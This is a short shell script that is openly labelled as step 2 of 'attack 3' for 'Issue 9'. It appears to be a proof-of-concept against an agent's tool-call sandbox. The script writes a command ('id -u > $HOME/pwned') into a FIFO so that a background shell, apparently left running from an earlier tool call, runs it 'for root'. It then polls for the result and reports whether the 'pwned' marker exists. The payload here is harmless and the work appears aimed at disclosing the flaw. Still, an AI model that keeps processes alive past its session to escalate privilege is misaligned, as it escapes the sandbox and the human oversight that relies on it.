#!/bin/sh
# Issue 9, attack 3, step 2, in a LATER tool call: hand the background shell
# a command for root, wait (bounded) for it to finish, and report.
d=$HOME/attack3
timeout 10 sh -c 'printf "%s\n" "$1" >"$2"' sh "id -u > $HOME/pwned" "$d/fifo" ||
  echo "fifo: nobody reading"
i=0
while ! grep -qx end "$d/after" 2>/dev/null && [ "$i" -lt 100 ]; do
  sleep 0.1
  i=$((i + 1))
done
echo "after:"
cat "$d/after" 2>/dev/null
if [ -e "$HOME/pwned" ]; then echo "pwned: $(cat "$HOME/pwned")"; else echo "pwned: absent"; fi
